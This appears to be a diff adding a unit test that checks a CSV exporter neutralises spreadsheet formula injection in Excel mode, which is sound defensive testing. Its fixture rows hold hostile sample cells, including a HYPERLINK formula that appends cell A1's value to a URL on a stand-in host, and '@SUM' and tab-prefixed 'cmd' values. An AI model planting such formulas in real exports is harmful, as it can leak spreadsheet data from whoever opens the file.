@@ -28,6 +28,23 @@ describe('formatResult', () => {
 		assert.ok(formatResult(result, 'csv', {bom: true}).startsWith('\uFEFFusername'));
 	});
 
+	it('csv for Excel (--bom) makes a text cell that starts a formula text; numbers and plain CSV stay exact', () => {
+		const hostile: TaskResult = {
+			...result,
+			rows: [
+				['=HYPERLINK("http://x.example/?"&A1,"click")', -3, null],
+				['+1-555', 0, '@SUM(A1)'],
+				['-x', -0.5, '\tcmd'],
+				['ann=@+-', 1, null],
+			],
+		};
+		assert.equal(
+			formatResult(hostile, 'csv', {bom: true}),
+			'\uFEFFusername,events,last_seen\n"\'=HYPERLINK(""http://x.example/?""&A1,""click"")",-3,\n\'+1-555,0,\'@SUM(A1)\n\'-x,-0.5,\'\tcmd\nann=@+-,1,\n',
+		);
+		assert.ok(formatResult(hostile, 'csv').startsWith('username,events,last_seen\n"=HYPERLINK('), 'without --bom the cells are exact');
+	});
+
 	it('json: one object per row, numbers as numbers, null kept', () => {
 		assert.deepEqual(JSON.parse(formatResult(result, 'json')), [
 			{username: 'ann, "the" first', events: 12, last_seen: '2024-03-04 09:00:00.123456'},
